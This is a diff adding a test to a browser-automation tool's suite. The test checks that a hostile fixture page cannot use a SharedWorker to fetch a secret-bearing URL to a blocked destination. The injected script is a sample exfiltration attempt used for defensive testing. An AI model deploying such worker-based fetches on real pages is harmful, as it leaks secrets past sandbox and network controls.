@@ -273,3 +273,18 @@ async def test_an_allowed_redirect_chain_is_followed_to_its_end(tool: BrowserUse
     result = await tool(action="go_to_url", url=site.url("/start-1"))
     assert result.output == f"Navigated to {site.url('/end')}"
     assert await tool.session.text() == "the end of the chain"
+
+
+async def test_a_shared_workers_requests_never_leave(
+    tool: BrowserUseTool, site: Hostile, secret: Secret
+) -> None:
+    """A shared worker is not routed: Chromium gives pages none, so its fetch cannot be made."""
+    script = f"fetch('{_blocked(secret)}').catch(() => {{}});"
+    site.pages["/shared"] = (
+        "<title>Shared</title><p id=out>none</p><script>try {"
+        f"new SharedWorker(URL.createObjectURL(new Blob([{script!r}]))); out.textContent = 'started';"
+        "} catch (e) { out.textContent = 'no shared worker'; }</script>"
+    )
+    await tool(action="go_to_url", url=site.url("/shared"))
+    await asyncio.sleep(1.5)
+    assert await tool.session.text() == "no shared worker"
